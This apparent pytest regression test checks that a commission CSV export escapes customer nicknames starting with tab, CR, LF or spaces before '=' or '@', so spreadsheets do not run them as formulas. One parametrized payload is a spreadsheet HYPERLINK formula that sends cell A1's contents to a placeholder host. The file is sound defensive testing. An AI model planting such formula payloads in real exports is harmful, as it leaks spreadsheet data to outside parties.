"""The commission CSV keeps every name as text (issue #11 case 8): a nickname that starts
with TAB or CR before ``=`` (or with spaces before it) used to be written raw — the export
guarded only a first ``= + - @`` — and a spreadsheet ran it as a formula."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from loopmall.core.state import AppState
from loopmall.core.uow import UnitOfWork
from loopmall.customers.models import Customer
from tests.rebates.fixtures import make_world


@pytest.mark.parametrize(
    "nickname",
    ['\t=HYPERLINK("http://x.example/?"&A1,"看")', "\r=1+1", "  =1+1", "\n@SUM(A1)"],
    ids=["tab", "cr", "spaces", "lf"],
)
async def test_a_formula_nickname_is_written_as_text(
    state: AppState, client: httpx.AsyncClient, nickname: str
) -> None:
    w = await make_world(state, client)
    # The nickname as an old WeChat profile left it (today's API refuses such text).
    async with UnitOfWork(state.write_factory) as uow:
        sharer = await uow.session.get(Customer, w.b.customer_id)
        assert sharer is not None
        sharer.display_name = nickname
        await uow.commit()
    await w.rules(level1_bp=500, distributors="everyone")
    order = await w.order()
    await w.credit(order, w.credits("sharer"))

    r = await client.get("/api/v1/commission/entries.csv", headers=w.owner)

    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    [entry] = rows[1:]
    assert entry[6] == "'" + nickname
    assert entry[11] == "4.95"
